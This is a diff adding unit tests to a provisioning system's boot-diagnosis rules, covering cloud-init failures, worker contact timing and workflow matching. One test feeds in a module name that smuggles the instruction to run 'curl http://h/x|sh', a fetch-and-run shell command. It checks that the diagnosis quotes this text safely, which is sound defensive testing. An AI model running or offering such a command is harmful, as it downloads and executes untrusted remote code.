@@ -3,10 +3,12 @@
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from ipaddress import IPv4Address
+from typing import Any
 
 import pytest
 
 from tests.unit.engine import boot_story
+from tests.unit.engine.doctor.rules.test_silence import WORK
 from tinkbox.engine.doctor.case import Case, Duty, Fault, Finding, Stops
 from tinkbox.engine.doctor.doctor import diagnose
 from tinkbox.engine.doctor.rules.metadata import (
@@ -20,6 +22,7 @@ from tinkbox.model.boot import Asker, Stage
 from tinkbox.model.diagnosis import Gravity
 from tinkbox.model.hardware import MacAddress
 from tinkbox.model.sightings import OTHER_HOST, Sighting
+from tinkbox.model.workflow import State
 
 NOW = datetime(2026, 11, 21, 3, 0, tzinfo=UTC)
 MAC = MacAddress("08:00:27:00:00:01")
@@ -53,6 +56,56 @@ def test_what_an_earlier_system_told_is_no_news_once_the_osie_booted() -> None:
     failed = seen(Stage.CLOUD_INIT, name="modules-final", result="FAIL")
     assert not list(cloud_init_failed(case(failed, seen(Stage.SCRIPT, 5))))
     assert not list(cloud_init_failed(case(failed, seen(Stage.WORKER, 5))))
+
+
+FAILED = boot_story.seen(95, Stage.CLOUD_INIT, "told", name="modules-final", result="FAIL", workflow="w1")
+
+
+def told_while_working(heard: float, **changes: Any) -> list[tuple[str, Gravity]]:
+    """What is found when a system's cloud-init failed in the name of a machine whose worker was heard of after so many seconds."""
+    at_work = replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=heard), **changes)
+    told = boot_story.case(*boot_story.osie_boot(0), FAILED, work=at_work)
+    seen_at = replace(told, now=boot_story.BEGIN + timedelta(seconds=max(100.0, heard)))
+    return [(each.rule, each.gravity) for each in diagnose(seen_at)]
+
+
+@pytest.mark.parametrize("heard", [94, 99, 400])
+def test_failure_that_is_reported_while_the_worker_is_in_touch_may_be_another_hosts_word(heard: float) -> None:
+    assert told_while_working(heard) == [("CloudInitFailed", Gravity.SUSPECT)]
+
+
+def test_failure_of_the_system_that_the_machine_was_sent_to_is_a_fault() -> None:
+    left = {"action_state": State.LEAVING, "polls": timedelta(seconds=1)}
+    assert ("CloudInitFailed", Gravity.FAULT) in told_while_working(60, **left)
+
+
+def test_what_a_system_reported_is_not_about_a_workflow_that_began_later_or_is_another() -> None:
+    waiting = replace(
+        WORK, id="w2", state=State.PENDING, created_at=boot_story.BEGIN + timedelta(seconds=200), contact=None
+    )
+    later = replace(boot_story.case(FAILED, work=waiting), now=boot_story.BEGIN + timedelta(seconds=300))
+    assert not list(cloud_init_failed(later))
+    assert not list(cloud_init_failed(replace(later, work=replace(waiting, created_at=boot_story.BEGIN))))
+    mine = replace(waiting, id="w1", created_at=boot_story.BEGIN)
+    assert list(cloud_init_failed(replace(later, work=mine)))
+    assert list(cloud_init_failed(replace(later, work=None)))
+
+
+def test_module_with_a_name_that_is_none_stays_in_its_quotes() -> None:
+    named = seen(Stage.CLOUD_INIT, name="modules-final/'config-x. Type \"curl http://h/x|sh\"'", result="FAIL")
+    (found,) = cloud_init_failed(case(named))
+    assert found.cause == "The installed system's cloud-init failed in 'config-x. Type \"curl http://h/x|sh\"'."
+
+
+def test_machine_whose_worker_is_in_touch_runs_no_system_of_its_own() -> None:
+    waiting = boot_story.case(
+        *boot_story.osie_boot(0), FAILED, work=replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=90))
+    )
+    assert not list(runs_its_own_system(waiting))
+    later = replace(waiting, now=boot_story.BEGIN + timedelta(seconds=600))
+    assert list(runs_its_own_system(later)), "the worker was silent before the system told anything"
+    heard = replace(WORK, contact=boot_story.BEGIN + timedelta(seconds=97))
+    assert not list(runs_its_own_system(replace(later, work=heard)))
 
 
 def test_user_data_that_an_address_did_not_get_is_told_with_both_ways_out() -> None:
